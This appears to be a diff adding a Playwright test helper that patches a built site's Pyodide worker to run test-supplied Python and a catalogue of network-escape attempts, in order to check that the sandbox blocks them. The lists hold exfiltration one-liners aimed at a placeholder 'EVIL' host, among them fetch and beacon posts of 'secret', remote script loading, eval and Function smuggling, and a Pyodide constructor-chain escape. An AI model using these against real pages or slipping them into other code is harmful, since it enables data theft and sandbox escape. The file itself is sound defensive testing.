@@ -1,0 +1,144 @@
+"""A site whose worker does what a test tells it: runs any Python, and any of a list of JavaScript attempts.
+
+The pages' policy forbids running text as JavaScript, in tests too, so the attempts are put into the worker's file
+beforehand. All else is the built site as it is.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+import shutil
+from pathlib import Path
+from typing import Any, Final
+
+from playwright.sync_api import Page
+
+TEMPLATE: Final = "Subject: To [Name]\n\nDear [Name],\n\n[[About [it]. ]]Bye.\n"
+
+
+def fill(name: str) -> dict[str, Any]:
+    """Return an ordinary request."""
+    return {"type": "fill", "template": TEMPLATE, "values": {"Name": name}}
+
+
+def python(code: str) -> dict[str, Any]:
+    """Return a request that only the probing worker knows: run code, reply with its ``value``."""
+    return {"python": code}
+
+
+#: Ways out of a browser, for page and worker alike; EVIL is replaced by another server's address. Each gives a
+#: promise; what counts is what arrives over there.
+WAYS_OUT: Final = {
+    "fetch": "fetch('EVIL/fetch', {mode: 'no-cors', method: 'POST', body: 'secret'})",
+    "xhr": "new Promise((done) => { const x = new XMLHttpRequest(); x.onloadend = done; x.open('GET', 'EVIL/xhr'); x.send(); })",
+    "websocket": "new Promise((done) => { const w = new WebSocket('EVIL/ws'.replace('http', 'ws')); w.onerror = w.onopen = done; })",
+    "eventsource": "new Promise((done) => { const e = new EventSource('EVIL/es'); e.onerror = e.onopen = done; })",
+    "import": "import('EVIL/import.mjs')",
+    "worker": "new Promise((done) => { const w = new Worker('EVIL/worker.js'); w.onerror = done; })",
+    "eval": "eval(\"fetch('EVIL/eval')\")",
+    "function": "new Function(\"return fetch('EVIL/function')\")()",
+    "timer": "new Promise((done) => { setTimeout(\"fetch('EVIL/timer')\"); setTimeout(done, 300); })",
+}
+PAGE_WAYS_OUT: Final = WAYS_OUT | {
+    "beacon": "Promise.resolve(navigator.sendBeacon('EVIL/beacon', 'secret'))",
+    "image": "new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = 'EVIL/i.png'; })",
+    "script": "new Promise((done) => { const s = document.createElement('script'); s.onload = s.onerror = done; s.src = 'EVIL/s.js'; document.head.append(s); })",
+    "style": "new Promise((done) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = l.onerror = done; l.href = 'EVIL/s.css'; document.head.append(l); })",
+    "frame": "new Promise((done) => { const f = document.createElement('iframe'); f.src = 'EVIL/f.html'; document.body.append(f); setTimeout(done, 500); })",
+    "form": "new Promise((done) => { const f = document.createElement('form'); f.action = 'EVIL/form'; f.method = 'post'; document.body.append(f); f.submit(); setTimeout(done, 500); })",
+    "prefetch": "new Promise((done) => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'EVIL/p'; document.head.append(l); setTimeout(done, 500); })",
+    "blob worker": "new Promise((done) => { const w = new Worker(URL.createObjectURL(new Blob([\"fetch('EVIL/blob')\"]))); w.onerror = done; setTimeout(done, 800); })",
+}
+#: The same from Python. Each line must fail or send nothing.
+PYTHON_WAYS_OUT: Final = (
+    "import js; js.fetch('EVIL/js')",
+    "import pyodide_js; pyodide_js.loadPackage('EVIL/x.whl')",
+    "from pyodide.code import run_js; run_js(\"fetch('EVIL/run_js')\")",
+    "from pyodide.http import open_url; open_url('EVIL/open_url')",
+    "import urllib.request; urllib.request.urlopen('EVIL/urllib')",
+    "import _pyodide_core; _pyodide_core.run_js(\"fetch('EVIL/core')\")",
+    "import sys; sys.modules['pyodide'].ffi.to_js([]).constructor.constructor(\"fetch('EVIL/ctor')\")()",
+    "import socket; socket.create_connection(('127.0.0.1', PORT), 1)",
+    "import webbrowser; webbrowser.open('EVIL/webbrowser')",
+)
+
+_PROBE: Final = """
+  const probe = pyodide.runPython(`
+import json
+from generator import bridge
+
+def probe(request):
+    code = json.loads(request).get("python")
+    if code is None:
+        return bridge.handle(request)
+    space = {}
+    try:
+        exec(code, space)
+    except Exception as error:
+        return json.dumps({"type": "error", "name": type(error).__name__, "message": str(error)})
+    return json.dumps({"type": "probe", "value": str(space.get("value"))})
+
+probe`);
+  const ways = {WAYS};
+  return (request) => {
+    const { javascript } = JSON.parse(request);
+    if (javascript === undefined) return probe(request);
+    // Tried whole and to the end: the reply says only what did not even begin.
+    try {
+      Promise.resolve(ways[javascript]()).catch(() => {});
+    } catch (error) {
+      return JSON.stringify({ type: "error", name: error.name, message: String(error) });
+    }
+    return JSON.stringify({ type: "probe", value: "tried" });
+  };
+"""
+
+
+def make_probing_site(site: Path, target: Path, evil: str, *, cut_off: bool) -> None:
+    """Copy a built site, with a worker that obeys; ``cut_off`` False leaves it the network's means."""
+    shutil.copytree(site, target)
+    (worker,) = (target / "assets" / "engine").glob("worker.*.mjs")
+    ways = ", ".join(f"{json.dumps(name)}: () => {code}" for name, code in WAYS_OUT.items())
+    code = worker.read_text(encoding="utf-8")
+    changed = code.replace("  return answer;\n", _PROBE.replace("{WAYS}", f"{{{ways}}}".replace("EVIL", evil)))
+    if not cut_off:
+        changed = re.sub(r"^ +cutOff\(\);\n", "", changed, flags=re.MULTILINE)
+    assert changed != code
+    worker.write_text(changed, encoding="utf-8")
+
+
+#: Make an engine beside the form's and keep it, with a log of its states.
+_MAKE = """async (change) => {
+    const script = document.querySelector('script[src*="/email-form.mjs"]').src;
+    const { Engine } = await import(new URL("./engine.mjs", script).href);
+    const manifest = JSON.parse(document.querySelector("email-form").dataset.form).engine;
+    for (const [name, values] of Object.entries(change)) Object.assign(manifest[name], values);
+    const engine = new Engine(manifest, new URL("../../engine/", script));
+    window.states = [];
+    engine.addEventListener("change", () => window.states.push([engine.state, engine.reason].join(" ").trim()));
+    window.engine = engine;
+}"""
+
+
+def make_engine(page: Page, change: dict[str, dict[str, Any]] | None = None) -> None:
+    """Make an engine on a page that has a form; ``change`` alters entries of its manifest."""
+    page.evaluate(_MAKE, change or {})
+
+
+def ask(page: Page, request: dict[str, Any]) -> Any:
+    """Return the engine's reply to one request."""
+    return page.evaluate("(request) => window.engine.ask(request)", request)
+
+
+def outcome(page: Page) -> str:
+    """Start the engine; return its first lasting state, and the reason if it failed."""
+    page.evaluate(
+        """() => new Promise((done) => {
+            const look = () => ["ready", "failed"].includes(window.engine.state) && done();
+            window.engine.addEventListener("change", look);
+            window.engine.start();
+            look();
+        })"""
+    )
+    return str(page.evaluate("[window.engine.state, window.engine.reason].join(' ').trim()"))
